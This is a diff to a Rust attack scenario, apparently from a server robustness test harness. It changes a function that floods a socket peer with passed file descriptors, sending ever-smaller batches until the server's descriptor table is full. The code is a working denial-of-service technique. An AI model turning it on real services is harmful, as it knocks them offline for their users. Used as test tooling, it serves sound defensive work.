@@ -11,8 +11,9 @@ use std::io;
 use std::time::{Duration, Instant};
 
 const NAME: &str = "full_table";
-/// Packets that are sent: each has as many descriptors as it can.
-const PACKETS: u32 = 128;
+/// Descriptors of the packets that are sent, and how many there are of each: ever smaller ones, for
+/// what is left of the table.
+const PACKETS: [(usize, u32); 4] = [(MAX_DESCRIPTORS, 64), (32, 16), (4, 16), (1, 64)];
 /// How long a server may take to read one of them.
 const PACE: Duration = Duration::from_millis(2);
 const AT_MOST: Duration = Duration::from_secs(1);
@@ -36,17 +37,21 @@ fn attack(attacker: &Attacker) -> io::Result<()> {
     let many = [file.as_fd(); MAX_DESCRIPTORS];
     attacker.ready();
     let late = Instant::now() + AT_MOST;
-    let mut sent = 0;
-    while sent < PACKETS && attacker.goes_on() && Instant::now() < late {
-        // Number 0 is a doorbell.
-        match engine::send_now(&channel.socket, &(sent + 1).to_ne_bytes(), &many) {
-            Ok(()) => sent += 1,
-            // Its queue, or what this user may have in flight, is full until it reads.
-            Err(Errno::AGAIN | Errno::TOOMANYREFS) => std::thread::sleep(PACE),
-            Err(_) => break,
+    // Number 0 is a doorbell.
+    let (mut number, mut sent) = (1u32, 0);
+    for (descriptors, packets) in PACKETS {
+        let end = number + packets;
+        while number < end && attacker.goes_on() && Instant::now() < late {
+            let these = &many[..descriptors];
+            match engine::send_now(&channel.socket, &number.to_ne_bytes(), these) {
+                Ok(()) => (number, sent) = (number + 1, sent + descriptors),
+                // Its queue, or what this user may have in flight, is full until it reads.
+                Err(Errno::AGAIN | Errno::TOOMANYREFS) => std::thread::sleep(PACE),
+                Err(_) => break,
+            }
         }
     }
-    attacker.holding(&format!("{} descriptors sent", sent as usize * MAX_DESCRIPTORS));
+    attacker.holding(&format!("{sent} descriptors sent"));
     attacker.stay();
     Ok(())
 }
